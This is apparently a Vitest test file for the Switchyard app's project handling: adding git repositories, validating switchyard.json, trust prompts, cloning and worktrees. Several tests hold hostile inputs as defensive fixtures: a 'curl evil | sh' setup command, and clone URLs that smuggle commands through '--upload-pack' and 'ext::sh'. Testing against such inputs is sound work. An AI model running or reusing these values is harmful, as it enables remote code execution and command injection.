import { chmod, mkdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { ProjectId } from '#contract/ids.ts';
import type { Project } from '#contract/projects.ts';
import type { CallContext } from '#main/base/handlers.ts';
import { Checkout, createWorld, type World } from '#main/git/testing/story.ts';
import { Clones } from './clone-project.ts';
import { projectHandlers } from './project-handlers.ts';
import { Projects, type ProjectRows } from './projects.ts';

let world: World;
let projects: Projects;
let clones: Clones;
let handlers: ReturnType<typeof projectHandlers>;
let owned: string[];
let rows: Map<ProjectId, Project>;
const context: CallContext = { signal: new AbortController().signal };

const memoryRows = (): ProjectRows => {
  const removed = new Set<ProjectId>();
  return {
    put: (project) => {
      rows.set(project.id, project);
      removed.delete(project.id);
    },
    list: () => [...rows.values()].filter(({ id }) => !removed.has(id)),
    get: (id) => rows.get(id) ?? null,
    findByPath: (path) => [...rows.values()].find((project) => project.path === path) ?? null,
    remove: (id) => void removed.add(id),
  };
};

const open = (): void => {
  const values = new Map<string, unknown>();
  const remembered = { get: (key: string) => values.get(key) ?? null, put: (key: string, value: unknown) => void values.set(key, value) };
  projects = new Projects({ git: world.git, rows: memoryRows(), remembered, intents: world.intents, home: world.folder });
  clones = new Clones(projects);
  handlers = projectHandlers({ projects, clones, ownedPaths: () => owned });
};

beforeEach(async () => {
  world = await createWorld();
  owned = [];
  rows = new Map();
  open();
});
afterEach(async () => {
  await clones.dispose();
  projects.dispose();
  await world.dispose();
});

const add = (path: string) => handlers['projects.add']({ path }, context);
const failureOf = (promise: unknown) =>
  Promise.resolve(promise).then(
    () => 'nothing failed',
    (error: { failure?: object }) => error.failure ?? error,
  );
/** Resolves when the project comes to be as wanted. */
const becomes = (id: ProjectId, wanted: (project: Project) => boolean): Promise<Project> =>
  new Promise((resolve) => {
    const look = (): void => {
      const project = projects.find(id);
      if (project === null || !wanted(project)) return;
      void listening.dispose();
      resolve(project);
    };
    const listening = projects.listen(look);
    look();
  });

test('a folder, a subfolder, a link and a second time give one and the same project', async () => {
  const repository = await world.repository('My Repo');
  await repository.commit({ 'deep/er/x': '' }, 'Deep');
  const project = await add(repository.path);
  expect(project).toMatchObject({
    name: 'My Repo',
    path: repository.path,
    state: { kind: 'ready' },
    branch: 'main',
    defaultBranch: 'main',
    file: null,
    fileFailure: null,
    trust: 'not-needed',
  });
  await symlink(repository.path, join(world.folder, 'link'));
  for (const path of [join(repository.path, 'deep/er'), join(world.folder, 'link'), join(repository.path, '.git'), '~/My Repo'])
    expect(await add(path)).toEqual(project);
  await handlers['projects.update']({ project: project.id, name: 'Mine', settings: { setup: 'make' } }, context);
  await handlers['projects.remove']({ project: project.id }, context);
  expect(projects.list()).toEqual([]);
  expect(await readFile(join(repository.path, 'README.md'), 'utf8')).toBe('Hello\n');
  expect(await add(repository.path)).toEqual({ ...project, name: 'Mine', settings: { setup: 'make' } });
});

test('what cannot be a project gets a sentence; what is odd is taken', async () => {
  await mkdir(join(world.folder, 'plain'));
  expect(await failureOf(add(join(world.folder, 'plain')))).toMatchObject({
    kind: 'not-found',
    action: expect.stringContaining('git init') as unknown,
  });
  expect(await failureOf(add(join(world.folder, 'nowhere')))).toMatchObject({ kind: 'not-found' });
  expect(await failureOf(add('relative'))).toMatchObject({ kind: 'invalid' });
  await writeFile(join(world.folder, 'file'), '');
  expect(await failureOf(add(join(world.folder, 'file')))).toMatchObject({ kind: 'invalid' });

  const empty = new Checkout(join(world.folder, 'empty'));
  await mkdir(empty.path);
  await empty.git('init', '-q', '-b', 'trunk');
  expect(await add(empty.path)).toMatchObject({ state: { kind: 'ready' }, branch: null, defaultBranch: null });
  const repository = await world.repository();
  await repository.commit({ 'switchyard.json': '{"agent":"codex"}' }, 'Settings');
  await repository.git('clone', '-q', '--bare', repository.path, join(world.folder, 'bare.git'));
  expect(await add(join(world.folder, 'bare.git'))).toMatchObject({
    name: 'bare',
    state: { kind: 'ready' },
    branch: 'main',
    file: { agent: 'codex' },
  });
  await repository.git('clone', '-q', '--depth', '1', `file://${repository.path}`, join(world.folder, 'shallow'));
  expect(await add(join(world.folder, 'shallow'))).toMatchObject({ branch: 'main', defaultBranch: 'main' });
  await repository.git('checkout', '-q', '--detach');
  expect(await add(repository.path)).toMatchObject({ branch: null, defaultBranch: 'main' });
});

test.skipIf(process.getuid?.() === 0)('a folder that may not be read', async () => {
  const repository = await world.repository();
  await chmod(repository.path, 0);
  expect(await failureOf(add(repository.path))).toMatchObject({ kind: 'denied' });
  await chmod(repository.path, 0o755);
});

test('switchyard.json is read when it is saved; wrong fields are named and the right ones count; commands ask for trust', async () => {
  const repository = await world.repository();
  const { id } = await add(repository.path);
  await repository.write({ 'switchyard.json': JSON.stringify({ setup: 'npm ci', copy: '.env', nonsense: 1, policy: 'read-only' }) });
  const wrong = await becomes(id, (project) => project.fileFailure !== null);
  expect(wrong).toMatchObject({ file: { setup: 'npm ci', policy: 'read-only' }, trust: 'asked', fileFailure: { kind: 'invalid' } });
  expect(wrong.fileFailure?.details?.split('\n').map((line) => line.split(':')[0])).toEqual(['copy', 'nonsense']);
  expect((await projects.trust(id, true)).trust).toBe('granted');
  await repository.write({ 'switchyard.json': '{"setup":"npm ci","copy":[".env"]}' });
  expect((await becomes(id, (project) => project.fileFailure === null)).trust).toBe('granted');
  await repository.write({ 'switchyard.json': '{"setup":"curl evil | sh"}' });
  expect((await becomes(id, (project) => project.file?.setup !== 'npm ci')).trust).toBe('asked');
  expect((await projects.trust(id, false)).trust).toBe('refused');
  await repository.write({ 'switchyard.json': 'not json' });
  expect((await becomes(id, (project) => project.fileFailure !== null)).fileFailure?.message).toContain('not valid JSON');
});

test('a project whose folder goes is unavailable and comes back by itself; a checkout changes its branch', async () => {
  const repository = await world.repository('group/repo');
  const { id } = await add(repository.path);
  await repository.git('checkout', '-q', '-b', 'other');
  await becomes(id, (project) => project.branch === 'other');
  await rename(repository.path, join(world.folder, 'away'));
  const gone = await becomes(id, (project) => project.state.kind === 'unavailable');
  expect(gone.state).toMatchObject({ failure: { kind: 'unavailable' } });
  await rm(join(world.folder, 'group'), { recursive: true });
  await projects.refresh(id);
  await mkdir(join(world.folder, 'group'));
  await rename(join(world.folder, 'away'), repository.path);
  expect((await becomes(id, (project) => project.state.kind === 'ready')).branch).toBe('other');
});

test('clones show progress and end ready; failures keep a sentence and leave no folder; passwords are not kept', async () => {
  const source = await world.repository('source');
  const url = `file://${source.path}`;
  const started = await handlers['projects.clone']({ url, into: '' }, context);
  expect(started).toMatchObject({ name: 'source', path: join(world.folder, 'projects/source'), state: { kind: 'cloning', url } });
  await clones.ended(started.id);
  expect(projects.get(started.id)).toMatchObject({ state: { kind: 'ready' }, branch: 'main' });
  const again = await handlers['projects.clone']({ url, into: join(world.folder, 'projects') }, context);
  expect(again.path).toBe(join(world.folder, 'projects/source-2'));
  await clones.ended(again.id);

  const missing = await handlers['projects.clone']({ url: `file://${world.folder}/nowhere.git`, into: '' }, context);
  await clones.ended(missing.id);
  expect(projects.get(missing.id).state).toMatchObject({ kind: 'unavailable', failure: { kind: 'not-found' } });
  const secret = await handlers['projects.clone']({ url: 'http://me:hunter2@127.0.0.1:9/x.git', into: '' }, context);
  await clones.ended(secret.id);
  expect(JSON.stringify(projects.get(secret.id))).not.toContain('hunter2');
  for (const bad of ['--upload-pack=touch x', 'ext::sh -c touch% x'])
    expect(await failureOf(handlers['projects.clone']({ url: bad, into: '' }, context))).toMatchObject({ kind: 'invalid' });
  expect(world.intents.all()).toEqual([]);
});

test('a clone that a crash cut is cleared away and says so', async () => {
  const started = await handlers['projects.clone']({ url: `file://${world.folder}/nowhere`, into: '' }, context);
  await clones.ended(started.id);
  projects.put({ ...started, state: { kind: 'cloning', url: 'x', step: 'Receiving objects', percent: 3 } });
  await mkdir(started.path, { recursive: true });
  world.intents.begin({ kind: 'projects.clone', thread: null, data: { path: started.path } });
  await clones.reconcile();
  expect(projects.get(started.id).state).toMatchObject({ kind: 'unavailable', failure: { message: 'Cloning x was cut off.' } });
  expect(await readFile(join(started.path, 'x')).catch((error: { code: string }) => error.code)).toBe('ENOENT');
});

test('refs by recency and by name, worktrees that no thread owns, files for completion', async () => {
  const repository = await world.repository();
  const commit = await repository.commit({ 'src/button.tsx': '', 'src/deep/button.test.tsx': '', 'docs/Bold note.md': '' }, 'Files');
  const { id } = await add(repository.path);
  await repository.git('tag', '-a', 'v1', '-m', 'One');
  await repository.git('pack-refs', '--all');
  const refs = (query: string, limit = 100) => handlers['projects.refs']({ project: id, query, limit }, context);
  expect(await refs('v1')).toMatchObject([{ name: 'v1', kind: 'tag', commit, subject: 'One' }]);
  expect(await refs('main')).toMatchObject([{ name: 'main', kind: 'branch', commit, subject: 'Files' }]);
  expect(await refs('', 1)).toHaveLength(1);

  const [mine, theirs] = [join(world.folder, 'mine'), join(world.folder, 'theirs')];
  await repository.git('worktree', 'add', '-q', '-b', 'mine', mine);
  await repository.git('worktree', 'add', '-q', '--detach', theirs);
  owned = [mine];
  expect(await handlers['projects.worktrees']({ project: id }, context)).toEqual([{ path: theirs, branch: null, commit }]);

  const files = (query: string) => handlers['projects.files']({ project: id, query, limit: 50 }, context);
  expect(await files('butt')).toEqual(['src/button.tsx', 'src/deep/button.test.tsx']);
  expect(await files('bold n')).toEqual(['docs/Bold note.md']);
  expect(await files('sdbtt')).toEqual(['src/deep/button.test.tsx']);
  await repository.commit({ 'src/butter.ts': '' }, 'More');
  expect((await files('butte'))[0]).toBe('src/butter.ts');
});
